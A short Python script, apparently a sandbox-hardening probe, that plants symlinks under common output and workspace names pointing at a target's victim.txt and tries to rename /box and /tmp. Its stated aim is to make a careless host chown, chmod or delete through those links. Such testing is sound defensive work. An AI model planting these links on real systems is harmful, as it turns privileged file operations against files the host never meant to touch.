# Leaves behind what a careless host would chown, chmod or delete through.
import os, sys
target = sys.stdin.read().strip()
for name in ['a', 'stdout', 'stderr', 'stdin', 'out', '.cache', 'box', 'work', 'result.json']:
    try:
        os.symlink(target + '/victim.txt', name)
    except OSError:
        pass
os.symlink(target, 'dir')
os.rename('dir', 'dir2')
for name in ['/box', '/tmp']:
    try:
        os.rename(name, name + '.old')
        print('renamed', name)
    except OSError:
        pass
print('HELD')
